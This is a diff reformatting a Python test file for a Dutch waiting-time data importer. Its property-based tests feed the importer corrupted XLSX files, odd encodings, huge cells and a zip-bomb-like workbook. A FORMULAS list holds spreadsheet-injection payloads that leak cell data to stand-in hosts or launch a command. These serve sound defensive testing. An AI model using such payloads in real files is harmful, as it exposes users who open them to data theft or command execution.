@@ -6,7 +6,6 @@ import resource
 import zipfile
 
 import psutil
-
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -19,10 +18,24 @@ from waitinfo.imports.service import run_import
 HEADER = "Vestiging;Postcode;Plaats;Zorgvorm;Diagnosegroep;Aanmeldwachttijd;Behandelwachttijd;Peildatum"
 XLSX = (SHARED / "samples" / "lutterzand-psychologie_aanbod.xlsx").read_bytes()
 STATUSES = {"applied", "rejected", "failed", "unchanged", "dry_run"}
-BOUNDED = settings(max_examples=8, deadline=None, derandomize=True,
-                   suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
-CATALOGUE = ["organization", "location", "service", "service_at_location", "service_need", "service_area",
-             "wait_time", "intake_stop", "schedule", "service_capacity"]
+BOUNDED = settings(
+    max_examples=8,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+CATALOGUE = [
+    "organization",
+    "location",
+    "service",
+    "service_at_location",
+    "service_need",
+    "service_area",
+    "wait_time",
+    "intake_stop",
+    "schedule",
+    "service_capacity",
+]
 FINGERPRINT = " union all ".join(f"select '{t}', count(*) from {t}" for t in CATALOGUE)
 
 
@@ -63,7 +76,7 @@ def test_binary_junk_is_rejected(db, org, junk):
 @given(cut=st.integers(min_value=0, max_value=len(XLSX) - 1), flip=st.booleans())
 def test_truncated_or_corrupted_xlsx_is_rejected(db, org, cut, flip):
     if flip:  # bytes flipped in the middle, length kept: may still read (zip has a central directory)
-        raw = XLSX[:cut] + bytes(b ^ 0xFF for b in XLSX[cut:cut + 64]) + XLSX[cut + 64:]
+        raw = XLSX[:cut] + bytes(b ^ 0xFF for b in XLSX[cut : cut + 64]) + XLSX[cut + 64 :]
     else:  # cut short: never readable
         raw = XLSX[:cut]
     before = catalogue(db)
@@ -75,8 +88,10 @@ def test_truncated_or_corrupted_xlsx_is_rejected(db, org, cut, flip):
 
 
 @BOUNDED
-@given(encoding=st.sampled_from(["utf-16", "utf-32", "cp037", "utf-7", "shift_jis"]),
-       town=st.sampled_from(["Almelo", "Enschedé", "Hengelo (Ov)", "Ootmarsum"]))
+@given(
+    encoding=st.sampled_from(["utf-16", "utf-32", "cp037", "utf-7", "shift_jis"]),
+    town=st.sampled_from(["Almelo", "Enschedé", "Hengelo (Ov)", "Ootmarsum"]),
+)
 def test_wrong_encodings_end_in_a_report(db, org, encoding, town):
     body = f"{HEADER}\r\nLocatie Ä;7607 GH;{town};Basis-ggz;;3;4;15-10-2026\r\n"
     try:
@@ -90,7 +105,9 @@ def test_wrong_encodings_end_in_a_report(db, org, encoding, town):
 
 
 @BOUNDED
-@given(size=st.sampled_from([70_000, 1_000_000, 5_000_000]), where=st.sampled_from(["Vestiging", "Zorgvorm", "Aanmeld"]))
+@given(
+    size=st.sampled_from([70_000, 1_000_000, 5_000_000]), where=st.sampled_from(["Vestiging", "Zorgvorm", "Aanmeld"])
+)
 def test_huge_cells_are_refused_per_row_or_file(db, org, size, where):
     huge = "x" * size
     cells = ["Locatie A", "7607 GH", "Almelo", "Basis-ggz", "", "3", "4", "15-10-2026"]
@@ -104,8 +121,16 @@ def test_huge_cells_are_refused_per_row_or_file(db, org, size, where):
     assert len(report.message) + sum(len(e.message) for e in report.errors) < 5_000
 
 
-FORMULAS = ['=HYPERLINK("https://kwaad.example/?d="&A1;"klik")', "=1+2", "+31 6 1234", "-2+3", "@SUM(A1:A9)",
-            "=cmd|' /C calc'!A0", "\t=1+1", "=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\")"]
+FORMULAS = [
+    '=HYPERLINK("https://kwaad.example/?d="&A1;"klik")',
+    "=1+2",
+    "+31 6 1234",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")',
+]
 
 
 @BOUNDED
@@ -117,9 +142,13 @@ def test_formulas_never_become_live_in_exports(db, org, formula, column):
     cells[column] = formula.replace(";", ",")
     raw = f"{HEADER}\r\n{';'.join(cells)}\r\n".encode()
     report = _run(db, org, raw, "formules.csv")
-    stored = db.execute(text("select l.name, s.name from service_at_location sal join location l on l.id = sal.location_id "
-                             "join service s on s.id = sal.service_id where s.organization_id = :o"),
-                        {"o": org.id}).all()
+    stored = db.execute(
+        text(
+            "select l.name, s.name from service_at_location sal join location l on l.id = sal.location_id "
+            "join service s on s.id = sal.service_id where s.organization_id = :o"
+        ),
+        {"o": org.id},
+    ).all()
     for values in stored:
         for value in values:
             out = safe_cell(value)
@@ -147,8 +176,10 @@ def test_zip_bomb_like_xlsx_is_bounded(db, org):
             data = src.read(item.filename)
             if item.filename.startswith("xl/worksheets/sheet1"):
                 head, _, _ = data.partition(b"<sheetData>")
-                rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t></t></is></c></row>' % (i, i)
-                                for i in range(2, 2_000_000))
+                rows = b"".join(
+                    b'<row r="%d"><c r="A%d" t="inlineStr"><is><t></t></is></c></row>' % (i, i)
+                    for i in range(2, 2_000_000)
+                )
                 data = head + b"<sheetData>" + rows + b"</sheetData></worksheet>"
             dst.writestr(item, data)
     raw = buf.getvalue()
